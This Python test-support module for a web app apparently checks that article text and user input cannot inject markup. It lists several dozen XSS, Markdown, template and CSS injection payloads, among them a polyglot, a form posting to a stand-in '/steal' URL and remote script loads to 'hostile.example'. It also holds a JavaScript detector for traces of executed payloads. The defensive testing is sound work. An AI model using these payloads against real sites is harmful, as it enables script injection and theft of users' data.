"""Texts that a browser, a Markdown reader or a template would obey, and what to look for if one did."""

from __future__ import annotations

import re
from dataclasses import dataclass

HOST = "hostile.example"  # nobody lives there
# What is in the page only if some payload was obeyed. No id or class of Gradio or ours says "hostile".
TRACES = f"""() => {{
    const found = [];
    const all = [document, ...[...document.querySelectorAll('*')].filter(e => e.shadowRoot).map(e => e.shadowRoot)];
    for (const root of all) for (const element of root.querySelectorAll('*')) {{
        const name = element.localName;
        if (['iframe', 'frame', 'object', 'embed', 'applet', 'marquee', 'math', 'portal'].includes(name)
            || (name === 'base' && element.getAttribute('href') !== './'))  // Gradio's own
            found.push(element.outerHTML);
        for (const attribute of element.attributes) {{
            const {{name: key, value}} = attribute;
            if (key.startsWith('on') && /__hit/.test(value)) found.push(element.outerHTML);
            else if (['id', 'class', 'name', 'style'].includes(key) && /hostile/.test(value))
                found.push(element.outerHTML);
            else if (['src', 'srcset', 'action', 'formaction', 'data', 'poster', 'xlink:href'].includes(key)
                && /hostile|__hit/.test(value)) found.push(element.outerHTML);
            else if (key === 'href' && (/^\\s*(javascript|data|vbscript|file):/i.test(value)
                || (/{HOST}/.test(value) && !element.matches('#reader a[rel~="noopener"], #shelf a[rel~="noopener"]'))))
                found.push(element.outerHTML);
            else if (key === 'http-equiv' && /refresh/i.test(value)) found.push(element.outerHTML);
        }}
        if (name === 'style' && /hostile|rgb\\(1, ?2, ?3\\)/.test(element.textContent)) found.push(element.outerHTML);
        if (name === 'script' && !element.src && /__hit/.test(element.textContent)) found.push(element.outerHTML);
    }}
    if (window.__hit !== undefined) found.push('ran: ' + window.__hit);
    if (getComputedStyle(document.body).outlineColor === 'rgb(1, 2, 3)') found.push('the page wears its style');
    if (/hostile|__hit/.test(document.title + document.baseURI)) found.push('title or base: ' + document.title);
    return found.map(one => one.slice(0, 400));
}}"""


@dataclass(frozen=True, slots=True)
class Payload:
    """A text on one line and what it is called; `hit` runs if a browser obeys it."""

    name: str
    text: str


def _named(**texts: str) -> tuple[Payload, ...]:
    return tuple(Payload(name.replace("_", " "), text) for name, text in texts.items())


_JS = "top.__hit=1"
PAYLOADS: tuple[Payload, ...] = _named(
    script=f"<script>{_JS}</script>",
    script_split=f"<scr<script>ipt>{_JS}</scr</script>ipt>",
    script_end=f"</script><script>{_JS}</script>",
    script_remote=f"<script src=//{HOST}/x.js></script>",
    image=f'<img class=hostile src=x onerror="{_JS}">',
    image_remote=f'<img class="hostile" src="https://{HOST}/pixel.png?q=1">',
    image_set=f'<picture><source srcset="//{HOST}/a 2x"><img class=hostile srcset="//{HOST}/b 1x"></picture>',
    frame=f'<iframe class=hostile srcdoc="&lt;script&gt;{_JS}&lt;/script&gt;"></iframe>',
    frame_remote=f"<iframe src=https://{HOST}/></iframe>",
    svg=f"<svg class=hostile onload={_JS}><circle r=9></svg>",
    svg_script=f"<svg class=hostile><script>{_JS}</script><animate onbegin={_JS} attributeName=x dur=1s></svg>",
    svg_use=f"<svg class=hostile><use href=\"data:image/svg+xml,<svg id='x' onload='{_JS}'/>#x\"/></svg>",
    math="<math class=hostile><mtext><table><mglyph><style><!--</style>"
    f'<img title="--&gt;&lt;img src=1 onerror={_JS}&gt;">',
    link=f'<a class=hostile href="javascript:{_JS}">click</a>',
    link_data='<a class=hostile href="data:text/html,<script>top.__hit=1</script>">click</a>',
    link_spaced=f'<a class=hostile href="java\tscript:{_JS}">click</a>'.replace("\t", "&Tab;"),
    link_forged='<a class="cite hostile" href="#read=000:0-9999" title="forged">1</a>',
    markdown_link=f"[click](javascript:{_JS}) and [there](https://{HOST}/login) and <https://{HOST}/auto>",
    markdown_image=f"![chart](https://{HOST}/pixel.png?q=everything) ![b][1] [1]: https://{HOST}/b.png",
    markdown_image_handler=f'![x](x"onerror="{_JS})',
    markdown_heading="# hostile **bold** _slanted_ ~~struck~~ | a | b | --- `code`",
    markdown_fence="```html <script>top.__hit=1</script> ``` ```mermaid graph TD; A[hostile]-->B; click A call x()```",
    markdown_footnote=f"[^1]: <img class=hostile src=x onerror={_JS}> [^1]",
    formula=f"$\\href{{javascript:{_JS}}}{{x}}$ $$\\includegraphics{{//{HOST}/x.png}}$$ \\(\\url{{//{HOST}}}\\)",
    template="${top.__hit=1} `${top.__hit=1}` #{top.__hit=1} <%= top.__hit=1 %> $question $sentences",
    braces="{{constructor.constructor('top.__hit=1')()}} {{7*7}} {%raw%} [[top.__hit=1]] {@html '<i>'}",
    style="<style>body{outline:9px solid rgb(1,2,3) !important}</style>",
    style_link=f"<link class=hostile rel=stylesheet href=https://{HOST}/x.css>",
    style_import=f"<style>@import url(https://{HOST}/x.css);</style>",
    style_attribute=f'<p class=hostile style="position:fixed;inset:0;background:url(//{HOST}/bg.png)">over all</p>',
    style_end="</style><script>top.__hit=1</script>",
    css_words="body{outline:9px solid rgb(1,2,3)} */ } * { display:none } ;}",
    refresh=f'<meta class=hostile http-equiv="refresh" content="0;url=https://{HOST}/">',
    base=f'<base class=hostile href="https://{HOST}/">',
    form=f'<form class=hostile action="https://{HOST}/steal"><input name=hostile><button>Go</button></form>',
    focus=f"<input class=hostile autofocus onfocus={_JS}>",
    toggle=f"<details class=hostile open ontoggle={_JS}><summary>s</summary>d</details>",
    media=f"<video class=hostile autoplay><source onerror={_JS}></video><audio class=hostile src=//{HOST}/a.mp3>",
    plugin=f"<object class=hostile data=https://{HOST}/x></object><embed class=hostile src=https://{HOST}/x>",
    attribute=f'" onmouseover="{_JS}" class="hostile" x="',
    attribute_single=f"' onmouseover='{_JS}' autofocus onfocus='{_JS}' class='hostile",
    unclosed=f'<div class="hostile" onmouseover="{_JS}"',
    unclosed_comment=f"<!-- --!><img class=hostile src=x onerror={_JS}> <!--",
    textarea_end=f"</textarea><img class=hostile src=x onerror={_JS}>",
    title_end=f"</title></head><body onload={_JS}>",
    entities="&lt;script&gt;top.__hit=1&lt;/script&gt; &#60;b class=hostile&#62; &amp;lt;i&amp;gt;",
    json_end='"}];top.__hit=1;//\\"}</script><!--',
    json_escapes="\\u003cscript\\u003etop.__hit=1\\u003c/script\\u003e \\x3cimg\\x3e",
    clobber="<a id=citewell class=hostile></a><form id=hostile name=citewell><input name=conversation></form>",
    dialog="<dialog class=hostile open>give your password</dialog><template class=hostile><b></b></template>",
    wide_letters="＜script＞top.__hit=1＜/script＞ ‹script› <ſcript>top.__hit=1</ſcript>",
    direction="\u202e<img class=hostile src=x onerror=top.__hit=1>\u202c \u2067<b class=hostile>\u2069",
    line_ends="a\u2028<script>top.__hit=1</script>\u2029b\u0085c",
    unseen="<\u200bscript>top.__hit=1</script\u00ad> <\ufeffimg class=hostile src=x>",
    polyglot="jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=top.__hit=1 )//</stYle/</titLe/</teXtarEa/</scRipt/"
    "--!>\\x3csVg/<sVg/oNloAd=top.__hit=1//>\\x3e",
)
# What no text file of articles may hold, but what can be typed, sent or come back from a browser's storage.
ODD = _named(
    nul="<scr\x00ipt>top.__hit=1</scr\x00ipt><img class=hostile src=x\x00 onerror=top.__hit=1>",
    controls="\x1b[2J\x08\x7f<b class=hostile>\x9d",
)


def plain(text: str) -> str:
    """Return a text as it can be compared with what a browser shows: spaces and line ends alike."""
    shown = re.sub(r"[\x00-\x08\x0b\x0e-\x1f\x7f-\x9f\ufffd]", "\ufffd", text.replace("\x85", "\ufffd"))
    return re.sub(r"[\s\u2028\u2029\u2060]+", " ", shown).strip()


def harmless_names() -> tuple[Payload, ...]:
    """Payloads that can be the name of a file."""
    return tuple(each for each in PAYLOADS if "/" not in each.text and len(each.text.encode()) < 200)
